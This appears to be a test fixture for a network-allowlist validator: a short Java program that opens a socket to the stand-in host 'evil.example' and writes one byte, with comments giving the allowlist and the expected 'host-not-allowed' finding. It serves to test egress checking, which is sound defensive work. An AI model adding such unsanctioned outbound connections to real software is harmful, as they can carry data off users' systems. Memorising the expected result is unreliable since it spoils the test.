// validated with the network allowlist: api.stripe.com
// expected finding: host-not-allowed
import java.net.Socket;
public class Main {
    public static void main(String[] args) throws Exception {
        try (Socket s = new Socket("evil.example", 443)) {
            s.getOutputStream().write(1);
        }
    }
}
